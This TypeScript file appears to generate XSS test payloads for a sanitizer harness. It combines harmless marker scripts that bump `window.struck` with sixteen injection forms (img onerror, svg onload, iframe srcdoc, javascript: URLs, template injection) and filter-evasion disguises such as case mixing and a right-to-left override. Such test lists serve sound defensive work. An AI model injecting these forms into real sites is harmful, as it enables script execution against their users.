const strikes = ['window.struck++', 'window.struck=1', 'eval("window.struck++")', 'self["struck"]=9'];

const shapes: readonly ((strike: string) => string)[] = [
  (strike) => `<img src=x onerror=${strike}>`,
  (strike) => `"><img src=x onerror="${strike}">`,
  (strike) => `'><img src=x onerror='${strike}'>`,
  (strike) => `<script>${strike}</script>`,
  (strike) => `</textarea><script>${strike}</script>`,
  (strike) => `</title><svg onload=${strike}>`,
  (strike) => `<svg><script>${strike}</script></svg>`,
  (strike) => `<iframe srcdoc="<script>parent.${strike}</script>">`,
  (strike) => `<a href="javascript:${strike}" autofocus onfocus=${strike}>x</a>`,
  (strike) => `<details open ontoggle=${strike}>`,
  (strike) => `<math><mi xlink:href="javascript:${strike}">`,
  (strike) => `<style>@import 'javascript:${strike}';</style>`,
  (strike) => `{{constructor.constructor('${strike}')()}}`,
  (strike) => `\${${strike}}`,
  (strike) => `javascript:${strike}`,
  (strike) => `<object data="data:text/html,<script>${strike}</script>">`,
];

/** Ways in which the same text slips through filters. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<img', '<IMG').replaceAll('script', 'ScRiPt'),
  (text) => text.replaceAll(' ', '/'),
  (text) => `\u202e${text}`,
];

/** Texts that run where a page takes text for markup; each would count in `window.struck`. More than two hundred. */
export const xssPayloads: readonly string[] = disguises.flatMap((disguise) =>
  strikes.flatMap((strike) => shapes.map((shape) => disguise(shape(strike)))),
);
